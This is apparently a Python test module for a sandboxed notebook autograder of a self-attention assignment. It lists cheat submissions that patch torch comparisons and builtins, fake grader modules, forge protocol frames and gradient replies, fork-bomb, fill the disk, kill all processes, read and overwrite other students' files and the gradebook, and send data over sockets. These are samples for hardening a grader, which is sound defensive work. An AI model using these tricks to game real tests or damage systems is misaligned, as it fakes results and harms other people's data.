"""A catalogue of cheat-attempt submissions for the sandboxed grader.

Each cheat is the buggy answer ``no_scale`` (it fails exactly ``sqrt_d_scale``,
2 points), another catalogue answer with one bug, or the untouched stub, plus a
payload that tries to raise the score,
read or damage what it must not, or take the grader down. The tests grade them
and require: no check scores more than the same answer without the payload,
other students' grades and files are unchanged, the gradebook is intact, and
every run ends within its bound with a message in its feedback.

Destructive payloads carry their own caps (a fork bomb of at most 256
processes that exit by themselves, at most 4 GB of memory, 200 MB of disk,
50 MB of output) so that even a broken sandbox could not take the machine down;
they only ever run inside the sandbox under test. Network attempts go to
127.0.0.1 only.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass
from typing import Callable

import nbformat
from nbformat.v4 import new_code_cell

from grader_tests.self_attention.answers import BUGGY, CLASS_CELL_ID, CORRECT, with_answer
from grader_tests.registry import ALL_CHECKS, GRADE_ID_PREFIX

ANSWERS = {a.name: a for a in BUGGY + CORRECT}
BASE = "no_scale"  # fails sqrt_d_scale only: a cheat that works would show up as 2 more points


@dataclass(frozen=True)
class Context:
    course: str  # absolute path of the course directory being graded
    canary: str  # a secret string stored in another student's submission and in the course dir
    port: int  # a TCP listener on 127.0.0.1 that no sandbox may reach


@dataclass(frozen=True)
class Cheat:
    name: str
    attempt: str  # what it tries
    build: Callable[[nbformat.NotebookNode, Context], object]  # -> NotebookNode, or bytes for a broken file
    base: str | None = BASE  # the honest answer underneath (None: the untouched stub)
    stops_sandbox: bool = False  # expected to end its sandbox early (all checks fail with a message)
    forges: str | None = None  # the check whose verdict it forges from inside the sandbox


def _cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def with_payload(code: str, answer: str | None = BASE, *, where: str = "after_class"):
    """The answer plus one extra (ungraded) code cell holding ``code``; ``where``:
    after the class cell, or 'end' (after the check cells)."""

    def build(release, ctx: Context):
        nb = with_answer(release, ANSWERS[answer].code if answer else None)
        source = textwrap.dedent(code).strip("\n").format(course=ctx.course, canary=ctx.canary, port=ctx.port)
        cell = new_code_cell(source)
        if where == "end":
            nb.cells.append(cell)
        else:
            index = nb.cells.index(_cell(nb, CLASS_CELL_ID)) + 1
            nb.cells.insert(index, cell)
        return nb

    return build


def _edited_checks(release, ctx):
    nb = with_answer(release, ANSWERS[BASE].code)
    for check in ALL_CHECKS:
        cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == GRADE_ID_PREFIX + check.id]
        for cell in cells:
            cell.source = f"print('✓ Passed: {check.title}')"
            cell.metadata.nbgrader["points"] = 100
    untagged = _cell(nb, "check_sqrt_d_scale")
    untagged.metadata.nbgrader["grade"] = False
    untagged.metadata.nbgrader["grade_id"] = "my_own_cell"
    return nb


def _class_calls_reference(release, ctx):
    code = '''
def forward(self, x):
    import sys
    ref = sys.modules.get("grader_tests.self_attention.reference") or __import__("grader_tests.self_attention.reference").self_attention.reference
    params = {f"{n}.{k}": getattr(getattr(self, n), k) for n in ("q_proj", "k_proj", "v_proj", "out_proj") for k in ("weight", "bias")}
    return ref.forward(params, x, causal=self.causal)

def attention_weights(self, x):
    import sys
    ref = sys.modules.get("grader_tests.self_attention.reference") or __import__("grader_tests.self_attention.reference").self_attention.reference
    params = {f"{n}.{k}": getattr(getattr(self, n), k) for n in ("q_proj", "k_proj", "v_proj", "out_proj") for k in ("weight", "bias")}
    return ref.attention_weights(params, x, causal=self.causal)
'''
    return with_answer(release, code)


FORGED_REPLIES = """
# Hook the sandbox's reply path: every probe reply goes through the wire encoder, so wrap it
# (and the decoder, to see each request) and flip whatever looks like a verdict: drop errors,
# relabel every float tensor float64, fill in missing or zero gradients.
import sys
import torch

wire = sys.modules.get("grader_tests.wire")
if wire is not None:
    original_encode, original_decode = wire.encode, wire.decode
    last = {{}}

    def decode(blob):
        last["request"] = original_decode(blob)
        return last["request"]

    def encode(reply):
        request = last.get("request", {{}})
        forged = {{k: v for k, v in reply.items() if not k.endswith(".error")}}  # an error is a failing verdict
        for key, value in list(forged.items()):
            if isinstance(value, torch.Tensor) and value.is_floating_point():
                forged[key] = value.double()  # "the dtype is float64"
        if "upstream" in request:  # "gradients reach everything": fill in any missing or zero gradient
            names = ["x"] + [k[len("param."):] for k in request if k.startswith("param.")]
            for name in names:
                grad = forged.get("grad." + name)
                if grad is None or float(grad.abs().max()) == 0.0:
                    like = request["x"] if name == "x" else request["param." + name]
                    forged["grad." + name] = torch.ones_like(like, dtype=torch.float64)
            forged.setdefault("forward", torch.zeros_like(request["x"], dtype=torch.float64))
        return original_encode(forged)

    wire.encode, wire.decode = encode, decode
"""


CHEATS: list[Cheat] = [
    Cheat("ipython_custom_exc", "swallow every error with IPython's set_custom_exc",
          with_payload("""
          try:
              get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
          except NameError:
              pass
          """)),
    Cheat("ipython_showtraceback", "silence tracebacks by patching InteractiveShell.showtraceback",
          with_payload("""
          from IPython.core.interactiveshell import InteractiveShell
          InteractiveShell.showtraceback = lambda *args, **kwargs: None
          InteractiveShell._showtraceback = lambda *args, **kwargs: None
          """)),
    Cheat("patched_comparisons", "make torch.allclose / equal / isclose / testing.assert_close always agree",
          with_payload("""
          import torch
          torch.allclose = lambda *a, **k: True
          torch.equal = lambda *a, **k: True
          torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
          torch.testing.assert_close = lambda *a, **k: None
          torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
          import unittest
          unittest.TestCase.assertTrue = lambda *a, **k: None
          """)),
    Cheat("fake_grader_modules", "install a fake grader_tests package on sys.meta_path whose grade() always passes",
          with_payload("""
          import sys, types, importlib.abc, importlib.machinery
          def grade(check_id, namespace):
              print("✓ Passed:", check_id)
          class Fake(importlib.abc.MetaPathFinder, importlib.abc.Loader):
              def find_spec(self, name, path=None, target=None):
                  if name.startswith("grader_tests"):
                      return importlib.machinery.ModuleSpec(name, self, is_package=True)
              def create_module(self, spec):
                  module = types.ModuleType(spec.name)
                  module.__path__ = []
                  module.grade = grade
                  return module
              def exec_module(self, module):
                  pass
          sys.meta_path.insert(0, Fake())
          for name in [n for n in sys.modules if n.startswith("grader_tests")]:
              del sys.modules[name]
          """)),
    Cheat("redefined_builtins", "redefine isinstance, print, repr and AssertionError for everything after it",
          with_payload("""
          import builtins
          builtins.isinstance = lambda obj, cls: True
          builtins.AssertionError = type("AssertionError", (Exception,), {{}})
          builtins.repr = lambda obj: "ok"
          builtins.print = lambda *a, **k: None
          """)),
    Cheat("edited_check_cells", "replace every check cell by a print of '✓ Passed', raise their points, untag one",
          _edited_checks),
    Cheat("forged_pass_output", "print '✓ Passed: ...' lines and fake protocol frames onto the grader's socket",
          with_payload("""
          import os, struct, json
          for check in ["scores are q·k divided by √D"]:
              print("✓ Passed:", check)
          fake = json.dumps({{"op": "cell", "outputs": []}}).encode()
          for fd in range(3, 10):
              try:
                  os.write(fd, struct.pack(">Q", len(fake) + 1) + b"J" + fake)
                  os.write(fd, b"\\x00" * 64)
              except OSError:
                  pass
          """)),
    Cheat("sys_exit", "call sys.exit() so the checks are skipped",
          with_payload("import sys\nsys.exit(0)")),
    Cheat("os_exit", "kill the kernel with os._exit(0) so the checks never run",
          with_payload("import os\nos._exit(0)"), stops_sandbox=True),
    Cheat("segfault", "crash the interpreter (a kernel that dies)",
          with_payload("import ctypes\nctypes.string_at(0)"), stops_sandbox=True),
    Cheat("infinite_loop", "loop forever in a cell to hang the batch",
          with_payload("while True:\n    pass"), stops_sandbox=True),
    Cheat("infinite_loop_in_forward", "loop forever inside forward so every probe hangs",
          lambda release, ctx: with_answer(release, ANSWERS[BASE].code.replace(
              "def forward(self, x):\n", "def forward(self, x):\n    while True:\n        pass\n")),
          stops_sandbox=True),
    Cheat("memory_bomb", "allocate memory until the machine swaps (capped at 4 GB)",
          with_payload("""
          blocks = []
          for _ in range(64):
              blocks.append(b"x" * (64 << 20))
          """), stops_sandbox=True),
    Cheat("fork_bomb", "fork until the process table is full (capped: 8 generations, children exit after 20 s)",
          with_payload("""
          import os, time
          for generation in range(8):
              try:
                  if os.fork() == 0:
                      time.sleep(20)
                      os._exit(0)
              except OSError as exc:
                  print("fork refused:", exc)
                  break
          """)),
    Cheat("output_flood", "flood the notebook with 50 MB of output (print and raw fd writes)",
          with_payload("""
          import os
          line = "spam " * 200 + "\\n"
          for _ in range(50_000):
              print(line, end="")
          for _ in range(2_000):
              os.write(1, line.encode() * 10)
          """)),
    Cheat("disk_fill", "fill the disk (capped at 200 MB)",
          with_payload("""
          import os
          written = 0
          try:
              with open("/tmp/fill", "wb") as f:
                  for _ in range(200):
                      f.write(b"\\0" * (1 << 20))
                      written += 1
          except OSError as exc:
              print("disk refused after", written, "MB:", type(exc).__name__)
          """)),
    Cheat("read_other_students", "read other submissions, the gradebook, the hidden tests and the exchange",
          with_payload("""
          import glob, os
          found = []
          for pattern in ["{course}/submitted/*/*/*.ipynb", "{course}/gradebook.db", "{course}/grader_tests/*.py",
                          "{course}/source/*/*.ipynb", "{course}/autograded/*/*/*.ipynb", "/srv/nbgrader/exchange/*",
                          "/work/*/grader_tests/self_attention/reference.py", "/root/*", "/home/*/*"]:
              for path in glob.glob(pattern):
                  try:
                      found.append(path + ":" + open(path, errors="replace").read()[:2000])
                  except OSError as exc:
                      found.append(path + ":" + type(exc).__name__)
          print("FOUND", len(found), found)
          """)),
    Cheat("write_gradebook", "overwrite the gradebook and delete other students' submissions",
          with_payload("""
          import os, shutil, sqlite3
          for action in (lambda: open("{course}/gradebook.db", "wb").write(b"gone"),
                         lambda: sqlite3.connect("{course}/gradebook.db").execute("UPDATE grade SET auto_score = 100"),
                         lambda: shutil.rmtree("{course}/submitted"),
                         lambda: os.remove("{course}/nbgrader_config.py")):
              try:
                  action()
              except Exception as exc:
                  print("refused:", type(exc).__name__)
          """)),
    Cheat("network", "reach a server on 127.0.0.1 (and the internet)",
          with_payload("""
          import socket
          for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 53)]:
              try:
                  socket.create_connection((host, port), timeout=1).sendall(b"stolen")
                  print("connected", host)
              except OSError as exc:
                  print("no network:", exc)
          """)),
    Cheat("kill_everything", "signal every process it can (kill -9 -1) to take the grader down",
          with_payload("import os, signal\nos.kill(-1, signal.SIGKILL)")),
    Cheat("calls_the_reference", "compute forward with the grader's own reference module",
          _class_calls_reference, base=None),
    Cheat("late_output_thread", "leave a thread that prints what it finds once the hidden checks are loaded",
          with_payload("""
          import sys, threading, time
          def spy():
              for _ in range(400):
                  mod = sys.modules.get("grader_tests.self_attention.probes")
                  if mod is not None:
                      print("SP" + "Y-LEAK", sorted(vars(mod))[:50], file=sys.__stdout__)
                      print("SP" + "Y-LEAK", sorted(vars(mod))[:50])
                      return
                  time.sleep(0.005)
          threading.Thread(target=spy, daemon=True).start()
          """)),
    Cheat("forged_gradients", "hook the sandbox's reply encoder and fill in the gradients a detached graph lacks",
          with_payload(FORGED_REPLIES, "detached_scores"), base="detached_scores", forges="gradients"),
    Cheat("forged_gradients_no_grad", "hook the reply encoder: drop the backward error and invent gradients",
          with_payload(FORGED_REPLIES, "no_grad_in_forward"), base="no_grad_in_forward", forges="gradients"),
    Cheat("forged_float64", "hook the reply encoder and relabel float32 results as float64",
          with_payload(FORGED_REPLIES, "float32_hard_coded"), base="float32_hard_coded", forges="float64"),
    Cheat("not_json", "a submission that is not JSON at all",
          lambda release, ctx: b'{"cells": [ this is not json', base=None, stops_sandbox=True),
]

assert len({c.name for c in CHEATS}) == len(CHEATS)
